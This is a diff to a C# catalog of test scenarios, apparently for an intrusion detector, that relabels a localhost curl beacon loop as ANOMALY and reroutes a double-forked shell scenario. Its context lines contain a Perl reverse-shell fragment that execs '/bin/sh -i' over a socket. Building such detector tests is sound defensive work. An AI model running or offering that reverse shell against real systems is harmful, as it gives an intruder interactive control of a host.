@@ -38,7 +38,8 @@ internal static class ScenarioCatalog
                 "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');};"],
                 TimeSpan.FromSeconds(15))),
 
-        new("beacon loop (30 calls, 1 s +-20%)", true, "THREAT", null, "beacon", Mode.Http,
+        // [judgement] A beacon alone is behaviour worth a look (ANOMALY), not a verdict of intrusion: THREAT is for shells and tunnels.
+        new("beacon loop (30 calls, 1 s +-20%)", true, "ANOMALY", null, "beacon", Mode.Http,
             (l, _) => Contexts.RunAsync(["/bin/bash", "-c",
                 $"for i in $(seq {BeaconCalls}); do curl -s -o /dev/null http://127.0.0.1:{l.Port}/b; " +
                 $"sleep $(awk -v r=$RANDOM 'BEGIN{{printf \"%.3f\", {BeaconSeconds.ToString(CultureInfo.InvariantCulture)}*(0.8+0.4*r/32767)}}'); done"],
@@ -46,7 +47,9 @@ internal static class ScenarioCatalog
 
         new("web server spawns sh -c curl (CGI)", true, "THREAT", null, "server-child", Mode.Http, WebShell),
 
-        new("double-forked background shell", true, "THREAT", null, "orphan-shell", Mode.Shell,
+        // [judgement] Its stdin is /dev/null (a background job): orphan-shell stays silent for such automation-shaped shells;
+        // the THREAT comes from the behaviour, a shell holding the TCP connection itself.
+        new("double-forked background shell", true, "THREAT", null, "shell-connect", Mode.Shell,
             async (l, _) =>
             {
                 await Contexts.RunAsync(["/bin/bash", "-c",
